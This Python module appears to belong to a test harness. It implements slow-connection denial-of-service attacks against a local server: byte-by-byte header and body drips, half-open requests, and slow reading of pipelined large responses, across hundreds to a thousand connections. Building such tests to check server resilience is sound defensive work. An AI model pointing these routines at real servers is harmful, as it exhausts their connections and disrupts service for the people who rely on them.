"""Connections that take their time, and many of them."""

import asyncio
import socket

from .field import ATTACKER, Field

HEAD = b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: "
BODY = b"POST /api/rooms HTTP/1.1\r\nHost: x\r\nContent-Length: 4000\r\n\r\n"
PIPELINED = 50  # requests at once, for answers that nobody takes


async def hold(field: Field, count: int, opening: bytes, drip: bytes, reads: bool = True) -> None:
    """Hold this many connections open, a drip a second on each; those cut off come again."""
    most = 0

    async def one(number: int) -> None:
        nonlocal held, most
        await asyncio.sleep(number / count)
        while True:
            try:
                reader, writer = await slow_connection(field, reads)
            except OSError:
                field.answers["not let in"] += 1
                await asyncio.sleep(1)
                continue
            held += 1
            most = max(most, held)
            try:
                writer.write(opening)
                field.bytes += len(opening)
                field.answers["let in"] += 1
                while not reader.at_eof() and not writer.is_closing():
                    await asyncio.sleep(1)
                    if drip:
                        writer.write(drip)
                        field.bytes += len(drip)
                    elif not reads:
                        field.answers["answered"] += len(await reader.read(1))
                field.answers["hung up"] += 1
            except OSError:
                field.answers["hung up"] += 1
            finally:
                held -= 1
                writer.transport.abort()

    held = 0
    await field.begin()
    await field.together(count, one)
    field.notes["most held at a time"] = most


async def slow_connection(
    field: Field, reads: bool
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """A client that does not want to read has a small window and takes next to nothing."""
    found = socket.socket()
    found.setblocking(False)
    if not reads:
        found.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
    found.bind((ATTACKER, 0))
    try:
        await asyncio.get_running_loop().sock_connect(found, ("127.0.0.1", field.port))
    except BaseException:
        found.close()
        raise
    field.connections += 1
    return await asyncio.open_connection(sock=found, limit=1024)


async def slow_heads(field: Field) -> None:
    """A thousand connections send their head byte by byte, one a second."""
    await hold(field, 1000, HEAD, b"a")


async def half_open(field: Field) -> None:
    """1,100 connections say half a word; 1,024 files are open to the server, or more if it asks."""
    await hold(field, 1100, b"GET / HT", b"")


async def half_open_hard(field: Field) -> None:
    """1,100 connections say half a word; 1,024 files are open to the server, and no more."""
    await hold(field, 1100, b"GET / HT", b"")


async def slow_bodies(field: Field) -> None:
    """Five hundred calls send their body byte by byte, one a second."""
    await hold(field, 500, BODY, b" ")


async def slow_reading(field: Field) -> None:
    """Two hundred connections ask for fifty large answers each, and read a byte a second."""
    await hold(field, 200, large_request(field) * PIPELINED, b"", reads=False)


def large_request(field: Field) -> bytes:
    return b"GET /api/openapi.json HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % field.port
